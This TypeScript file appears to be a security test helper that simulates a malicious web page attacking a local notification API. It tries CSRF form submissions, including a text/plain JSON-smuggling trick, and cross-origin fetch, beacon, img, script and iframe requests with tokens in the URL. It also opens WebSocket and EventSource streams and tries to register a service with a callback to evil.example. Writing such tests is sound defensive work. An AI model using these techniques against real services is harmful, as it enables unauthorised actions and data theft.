/** What an attacker's page is given: it even knows every credential, so that nothing but the guards can stop it. */
export type Attack = {
  base: string;
  admin: string;
  service: string;
  user: string;
  /** An open notification, to be answered, withdrawn or acknowledged. */
  victim: string;
};

/** What the page got out of it: attempts whose reply it could read, and streams that opened. */
export type Loot = { read: string[]; opened: string[]; attempts: number };

/** Runs inside the page: everything a page can send to another address of this machine. */
export async function attackFromPage({ base, admin, service, user, victim }: Attack): Promise<Loot> {
  const api = `${base}/api/v1`;
  const loot: Loot = { read: [], opened: [], attempts: 0 };
  const question = (title: string) =>
    JSON.stringify({
      context: { title, description: '' },
      actions: [{ id: 'ok', label: 'Fine', response_type: 'simple' }],
    });
  const answer = JSON.stringify({ notification_id: victim, action_id: 'ok', response_data: null });
  const registration = JSON.stringify({
    name: `Evil ${Math.random()}`,
    description: 'x',
    callback_url: 'https://evil.example/',
  });
  const writes = [
    ['POST', '/notifications', service, question('fetch')],
    ['POST', '/client/respond', user, answer],
    ['PATCH', `/notifications/${victim}`, service, '{"status":"invalidated"}'],
    ['POST', `/client/notifications/${victim}/acknowledge`, user, '{}'],
    ['POST', '/services', admin, registration],
    ['POST', '/admin/users', admin, '{"name":"Evil"}'],
  ] as const;
  const reads = [
    '/client/notifications',
    `/client/notifications/${victim}`,
    `/notifications/${victim}`,
    '/admin/services',
  ];

  const attempt = async (what: string, run: () => Promise<Response>) => {
    loot.attempts++;
    try {
      const reply = await run();
      if (reply.type !== 'opaque' && reply.ok) loot.read.push(what);
    } catch {
      // The browser does not let the page see it.
    }
  };
  const modes: RequestMode[] = ['cors', 'no-cors', 'same-origin'];
  const kinds = ['application/json', 'text/plain', 'application/x-www-form-urlencoded'];
  for (const [method, path, token, body] of writes) {
    for (const mode of modes) {
      for (const kind of kinds) {
        const headers = { 'content-type': kind, authorization: `Bearer ${token}` };
        const init: RequestInit = { method, mode, body, keepalive: true };
        await attempt(`${method} ${path} ${mode}`, () => fetch(api + path, { ...init, headers }));
        await attempt(`${method} ${path} ${mode} simple`, () =>
          fetch(`${api}${path}?token=${token}`, { ...init, headers: { 'content-type': kind } }),
        );
      }
    }
    loot.attempts++;
    navigator.sendBeacon(`${api}${path}?token=${token}`, new Blob([body], { type: 'text/plain' }));
  }
  for (const path of reads) {
    for (const token of [user, service, admin]) {
      for (const mode of modes) {
        await attempt(`GET ${path} ${mode}`, () =>
          fetch(api + path, { mode, headers: { authorization: `Bearer ${token}` } }),
        );
        await attempt(`GET ${path} ${mode} token`, () => fetch(`${api}${path}?token=${token}`, { mode }));
      }
    }
  }
  await attempt('GET openapi.json', () => fetch(`${api}/openapi.json`));

  const ended = (element: HTMLElement) =>
    new Promise<void>((resolve) => {
      loot.attempts++;
      for (const event of ['load', 'error']) element.addEventListener(event, () => resolve(), { once: true });
      document.body.append(element);
    });
  const events = `${api}/client/events?token=${user}`;
  await ended(Object.assign(document.createElement('img'), { src: `${api}/client/notifications?token=${user}&img` }));
  await ended(Object.assign(document.createElement('script'), { src: `${api}/client/notifications?token=${user}&js` }));
  await ended(Object.assign(document.createElement('link'), { rel: 'stylesheet', href: `${api}/health?css` }));
  await ended(
    Object.assign(document.createElement('iframe'), { src: `${api}/client/notifications?token=${user}&frame` }),
  );

  for (const [index, [, path, token, body]] of writes.entries()) {
    for (const enctype of ['text/plain', 'application/x-www-form-urlencoded', 'multipart/form-data']) {
      const frame = Object.assign(document.createElement('iframe'), { name: `f${index}${enctype}` });
      document.body.append(frame);
      const form = Object.assign(document.createElement('form'), {
        method: 'POST',
        enctype,
        target: frame.name,
        action: `${api}${path}?token=${token}`,
      });
      // The old trick: name and value of a field make up JSON around the "=" between them.
      const field = Object.assign(document.createElement('input'), { name: `${body.slice(0, -1)},"x":"`, value: '"}' });
      form.append(field);
      document.body.append(form);
      loot.attempts++;
      const loaded = new Promise((resolve) => frame.addEventListener('load', resolve, { once: true }));
      form.submit();
      await loaded;
    }
  }

  const streams = [
    new Promise<void>((resolve) => {
      const source = new EventSource(events);
      source.onopen = () => loot.opened.push('EventSource');
      source.onerror = () => {
        source.close();
        resolve();
      };
    }),
    ...[`?token=${user}`, ''].map(
      (query) =>
        new Promise<void>((resolve) => {
          const socket = new WebSocket(`${api.replace('http', 'ws')}/client/stream${query}`);
          socket.onopen = () => {
            loot.opened.push('WebSocket');
            socket.send(JSON.stringify({ type: 'acknowledge', data: { notification_id: victim } }));
            socket.close();
          };
          socket.onerror = () => resolve();
          socket.onclose = () => resolve();
        }),
    ),
  ];
  loot.attempts += streams.length;
  await Promise.all(streams);
  return loot;
}
